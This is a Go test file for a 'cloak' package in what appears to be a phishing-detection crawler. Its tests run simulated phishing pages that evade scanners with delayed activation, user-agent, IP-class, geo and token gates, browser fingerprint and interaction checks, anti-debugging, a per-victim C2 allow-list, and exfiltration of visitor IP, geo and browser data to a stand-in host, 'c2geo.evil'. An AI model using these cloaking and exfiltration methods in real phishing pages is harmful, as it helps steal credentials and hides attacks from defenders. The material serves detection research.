package cloak

import (
	"context"

	"strings"
	"testing"
	"time"

	"crawlerbox/internal/browser"
	"crawlerbox/internal/htmlx"
	"crawlerbox/internal/webnet"
)

var _epoch = time.Date(2024, 2, 1, 8, 0, 0, 0, time.UTC)

const _phishPage = `<html><body><form action="/collect" method="post">
<input type="email" name="user"><input type="password" name="pw">
</form></body></html>`

func phishHandler(*webnet.Request) *webnet.Response {
	return &webnet.Response{Status: 200, Headers: map[string]string{"Content-Type": "text/html"},
		Body: []byte(_phishPage)}
}

func newNet() *webnet.Internet {
	return webnet.NewInternet(webnet.NewClock(_epoch))
}

func get(t *testing.T, net *webnet.Internet, host, path, query, ua, ip string) *webnet.Response {
	t.Helper()
	resp, err := net.Do(context.Background(), &webnet.Request{
		Method: "GET", Host: host, Path: path, RawQuery: query,
		Headers:  map[string]string{"User-Agent": ua},
		ClientIP: ip,
	})
	if err != nil {
		t.Fatal(err)
	}
	return resp
}

func isPhish(resp *webnet.Response) bool {
	return strings.Contains(string(resp.Body), `type="password"`)
}

func TestDelayedActivation(t *testing.T) {
	net := newNet()
	activateAt := _epoch.Add(6 * time.Hour) // sent at night, live in the morning
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("delayed.evil", ip)
	net.Serve("delayed.evil", Chain(phishHandler, DelayedActivation(net.Clock, activateAt)))

	if isPhish(get(t, net, "delayed.evil", "/", "", "Mozilla/5.0", "10.0.0.1")) {
		t.Error("URL must be benign before activation (delivery-time scan window)")
	}
	net.Clock.Advance(7 * time.Hour)
	if !isPhish(get(t, net, "delayed.evil", "/", "", "Mozilla/5.0", "10.0.0.1")) {
		t.Error("URL must be live after activation")
	}
}

func TestUserAgentFilterMobileOnly(t *testing.T) {
	net := newNet()
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("qr.evil", ip)
	net.Serve("qr.evil", Chain(phishHandler, UserAgentFilter("iPhone", "Android")))

	desktop := "Mozilla/5.0 (Windows NT 10.0) Chrome/121"
	mobile := "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) Safari/604.1"
	if isPhish(get(t, net, "qr.evil", "/", "", desktop, "10.0.0.1")) {
		t.Error("desktop UA must see the benign page (QR campaign targets phones)")
	}
	if !isPhish(get(t, net, "qr.evil", "/", "", mobile, "10.0.0.1")) {
		t.Error("mobile UA must see the phish")
	}
}

func TestIPClassBlocklist(t *testing.T) {
	net := newNet()
	host := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("ipcloak.evil", host)
	net.Serve("ipcloak.evil", Chain(phishHandler,
		IPClassBlocklist(net, webnet.IPDatacenter, webnet.IPSecurityVendor)))

	scanner := net.AllocateIP(webnet.IPSecurityVendor)
	victim := net.AllocateIP(webnet.IPResidential)
	if isPhish(get(t, net, "ipcloak.evil", "/", "", "Mozilla/5.0", scanner)) {
		t.Error("security-vendor IP must be cloaked")
	}
	if !isPhish(get(t, net, "ipcloak.evil", "/", "", "Mozilla/5.0", victim)) {
		t.Error("residential IP must see the phish")
	}
}

func TestGeoFilter(t *testing.T) {
	net := newNet()
	host := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("geo.evil", host)
	net.Serve("geo.evil", Chain(phishHandler, GeoFilter(net, "FR")))
	frIP := net.AllocateIP(webnet.IPResidential)
	net.SetIPCountry(frIP, "FR")
	usIP := net.AllocateIP(webnet.IPResidential)
	net.SetIPCountry(usIP, "US")
	if !isPhish(get(t, net, "geo.evil", "/", "", "UA", frIP)) {
		t.Error("targeted country must see the phish")
	}
	if isPhish(get(t, net, "geo.evil", "/", "", "UA", usIP)) {
		t.Error("other countries must be cloaked")
	}
}

func TestTokenGate(t *testing.T) {
	net := newNet()
	host := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("token.evil", host)
	gate := NewTokenGate("t", "dhfYWfH", "aaaa111")
	net.Serve("token.evil", Chain(phishHandler, gate.Middleware()))

	if !isPhish(get(t, net, "token.evil", "/", "t=dhfYWfH", "UA", "10.0.0.1")) {
		t.Error("valid token must reveal")
	}
	if isPhish(get(t, net, "token.evil", "/", "t=wrong", "UA", "10.0.0.1")) {
		t.Error("invalid token must be cloaked")
	}
	if isPhish(get(t, net, "token.evil", "/", "", "UA", "10.0.0.1")) {
		t.Error("missing token must be cloaked")
	}
}

func TestChainOrdering(t *testing.T) {
	net := newNet()
	host := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("multi.evil", host)
	gate := NewTokenGate("t", "ok")
	net.Serve("multi.evil", Chain(phishHandler,
		UserAgentFilter("Mozilla"),
		gate.Middleware(),
	))
	if !isPhish(get(t, net, "multi.evil", "/", "t=ok", "Mozilla/5.0", "10.0.0.1")) {
		t.Error("all layers satisfied must reveal")
	}
	if isPhish(get(t, net, "multi.evil", "/", "t=ok", "curl/8", "10.0.0.1")) {
		t.Error("first layer must cloak curl")
	}
}

// --- Client-side cloaks, executed through the simulated browser ---

func serveCloaked(net *webnet.Internet, host, html string) {
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS(host, ip)
	net.Serve(host, func(*webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Headers: map[string]string{"Content-Type": "text/html"},
			Body: []byte(html)}
	})
}

const _revealForm = `<form><input type="password" name="pw"></form>`

func TestFingerprintGateClientSide(t *testing.T) {
	net := newNet()
	html := `<html><body><script>` +
		FingerprintGate("Chrome", "Europe/Paris", "en-US", EncodeBase64HTML(_revealForm)) +
		`</script></body></html>`
	serveCloaked(net, "fp.evil", html)

	human := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), 1)
	res, err := human.Visit(context.Background(), "https://fp.evil/")
	if err != nil {
		t.Fatal(err)
	}
	if !htmlx.HasPasswordInput(res.DOM) {
		t.Error("matching fingerprint must reveal the phish")
	}

	odd := browser.HumanChrome()
	odd.Language = "ru-RU"
	bot := browser.New(net, odd, net.AllocateIP(webnet.IPMobile), 2)
	res2, err := bot.Visit(context.Background(), "https://fp.evil/")
	if err != nil {
		t.Fatal(err)
	}
	if htmlx.HasPasswordInput(res2.DOM) {
		t.Error("mismatched language must stay cloaked")
	}
}

func TestInteractionGateClientSide(t *testing.T) {
	net := newNet()
	html := `<html><body><script>` +
		InteractionGate(EncodeBase64HTML(_revealForm)) + `</script></body></html>`
	serveCloaked(net, "interact.evil", html)

	human := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), 1)
	res, err := human.Visit(context.Background(), "https://interact.evil/")
	if err != nil {
		t.Fatal(err)
	}
	if !htmlx.HasPasswordInput(res.DOM) {
		t.Error("trusted mouse movement must open the gate")
	}

	still := browser.HumanChrome()
	still.MouseMovement = false
	bot := browser.New(net, still, net.AllocateIP(webnet.IPMobile), 2)
	res2, err := bot.Visit(context.Background(), "https://interact.evil/")
	if err != nil {
		t.Fatal(err)
	}
	if htmlx.HasPasswordInput(res2.DOM) {
		t.Error("no interaction: gate must stay closed")
	}
}

func TestDelayedRevealClientSide(t *testing.T) {
	net := newNet()
	html := `<html><body><script>` +
		DelayedReveal(EncodeBase64HTML(_revealForm), 8000) + `</script></body></html>`
	serveCloaked(net, "delayjs.evil", html)

	patient := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), 1)
	res, err := patient.Visit(context.Background(), "https://delayjs.evil/")
	if err != nil {
		t.Fatal(err)
	}
	if !htmlx.HasPasswordInput(res.DOM) {
		t.Error("patient crawler must see the delayed reveal")
	}

	hasty := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), 2)
	hasty.EventLoopWindow = 2 * time.Second
	res2, err := hasty.Visit(context.Background(), "https://delayjs.evil/")
	if err != nil {
		t.Fatal(err)
	}
	if htmlx.HasPasswordInput(res2.DOM) {
		t.Error("hasty crawler must miss the reveal")
	}
}

func TestConsoleHijackClientSide(t *testing.T) {
	net := newNet()
	html := `<html><body><script>` + ConsoleHijack() +
		`console.log("should vanish");</script></body></html>`
	serveCloaked(net, "hijack.evil", html)
	br := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), 1)
	res, err := br.Visit(context.Background(), "https://hijack.evil/")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Console) != 0 {
		t.Errorf("console output should be suppressed, got %v", res.Console)
	}
}

func TestDebuggerTimerClientSide(t *testing.T) {
	net := newNet()
	serveCloaked(net, "c2.evil", "") // c2 endpoint (never called on clean runs)
	html := `<html><body><script>` + DebuggerTimer("c2.evil") + `</script></body></html>`
	serveCloaked(net, "antidebug.evil", html)
	br := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), 1)
	res, err := br.Visit(context.Background(), "https://antidebug.evil/")
	if err != nil {
		t.Fatal(err)
	}
	if res.DebuggerHits == 0 {
		t.Error("debugger timer should have fired")
	}
	for _, r := range res.Requests {
		if strings.Contains(r.URL, "debug-detected") {
			t.Error("virtual clock must not be flagged as a debugger")
		}
	}
}

func TestHueRotateClientSide(t *testing.T) {
	net := newNet()
	base := `<div style="background:#1a3c8c;height:30px;color:white">BRAND</div>` + _revealForm
	serveCloaked(net, "plain.evil", `<html><body>`+base+`</body></html>`)
	serveCloaked(net, "rotated.evil", `<html><head><script>`+HueRotate(4)+
		`</script></head><body>`+base+`</body></html>`)
	br1 := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), 1)
	res1, err := br1.Visit(context.Background(), "https://plain.evil/")
	if err != nil {
		t.Fatal(err)
	}
	br2 := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), 2)
	res2, err := br2.Visit(context.Background(), "https://rotated.evil/")
	if err != nil {
		t.Fatal(err)
	}
	if res1.RenderScreenshot().Equal(res2.RenderScreenshot()) {
		t.Error("hue rotation must perturb pixels")
	}
}

func TestVictimCheckClientSide(t *testing.T) {
	net := newNet()
	// C2 that only approves the targeted address.
	c2IP := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("c2track.evil", c2IP)
	net.Serve("c2track.evil", func(req *webnet.Request) *webnet.Response {
		if strings.Contains(req.RawQuery, "victim%40corp.example") {
			return &webnet.Response{Status: 200, Body: []byte("allow")}
		}
		return &webnet.Response{Status: 200, Body: []byte("deny")}
	})
	html := `<html><body><script>` +
		VictimCheck("c2track.evil", EncodeBase64HTML(_revealForm)) + `</script></body></html>`
	serveCloaked(net, "track.evil", html)

	br := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), 1)
	// Targeted victim: base64("victim@corp.example") in the fragment.
	res, err := br.Visit(context.Background(), "https://track.evil/login#dmljdGltQGNvcnAuZXhhbXBsZQ==")
	if err != nil {
		t.Fatal(err)
	}
	if !htmlx.HasPasswordInput(res.DOM) {
		t.Errorf("targeted victim must see the phish (errors: %v)", res.ScriptErrors)
	}

	br2 := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), 2)
	// Unknown address: base64("other@corp.example").
	res2, err := br2.Visit(context.Background(), "https://track.evil/login#b3RoZXJAY29ycC5leGFtcGxl")
	if err != nil {
		t.Fatal(err)
	}
	if htmlx.HasPasswordInput(res2.DOM) {
		t.Error("non-targeted address must stay cloaked")
	}

	br3 := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), 3)
	// No token at all (a scanner fetching the bare URL).
	res3, err := br3.Visit(context.Background(), "https://track.evil/login")
	if err != nil {
		t.Fatal(err)
	}
	if htmlx.HasPasswordInput(res3.DOM) {
		t.Error("tokenless visit must stay cloaked")
	}
}

func TestExfiltrateClientInfo(t *testing.T) {
	net := newNet()
	// httpbin-style echo.
	hbIP := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("httpbin.example", hbIP)
	net.Serve("httpbin.example", func(req *webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte(req.ClientIP)}
	})
	// ipapi-style enrichment.
	iaIP := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("ipapi.example", iaIP)
	net.Serve("ipapi.example", func(req *webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte(`{"country":"FR","asn":"AS1234"}`)}
	})
	var exfil string
	c2IP := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("c2geo.evil", c2IP)
	net.Serve("c2geo.evil", func(req *webnet.Request) *webnet.Response {
		exfil = req.Body
		return &webnet.Response{Status: 200, Body: []byte("ok")}
	})
	html := `<html><body><script>` +
		ExfiltrateClientInfo("httpbin.example", "ipapi.example", "c2geo.evil") +
		`</script></body></html>`
	serveCloaked(net, "exfil.evil", html)
	victimIP := net.AllocateIP(webnet.IPMobile)
	br := browser.New(net, browser.NotABot(), victimIP, 1)
	if _, err := br.Visit(context.Background(), "https://exfil.evil/"); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(exfil, victimIP) {
		t.Errorf("exfiltrated data missing client IP: %q", exfil)
	}
	if !strings.Contains(exfil, "FR") || !strings.Contains(exfil, "Chrome") {
		t.Errorf("exfiltrated data missing geo/UA: %q", exfil)
	}
}

func TestNoisePaddingDeterministic(t *testing.T) {
	a := NoisePadding(7, 50, 100)
	b := NoisePadding(7, 50, 100)
	if a != b {
		t.Error("noise must be deterministic per seed")
	}
	c := NoisePadding(8, 50, 100)
	if a == c {
		t.Error("different seeds must differ")
	}
	if !strings.HasPrefix(a, strings.Repeat("\n", 50)) {
		t.Error("noise must start with the line-break run")
	}
	if len(strings.Fields(a)) != 100 {
		t.Errorf("noise words = %d, want 100", len(strings.Fields(a)))
	}
}

func TestOTPAndMathChallengePagesBlockCrawlers(t *testing.T) {
	net := newNet()
	serveCloaked(net, "otp.evil", OTPGatePage("837261", "/portal"))
	serveCloaked(net, "math.evil", MathChallenge(3, 4, "/portal"))
	for _, host := range []string{"otp.evil", "math.evil"} {
		br := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), 9)
		res, err := br.Visit(context.Background(), "https://"+host+"/")
		if err != nil {
			t.Fatal(err)
		}
		if htmlx.HasPasswordInput(res.DOM) {
			t.Errorf("%s: challenge page must not expose the phish directly", host)
		}
		if res.FinalURL != "https://"+host+"/" {
			t.Errorf("%s: crawler should be stuck at the challenge, final=%q", host, res.FinalURL)
		}
	}
}
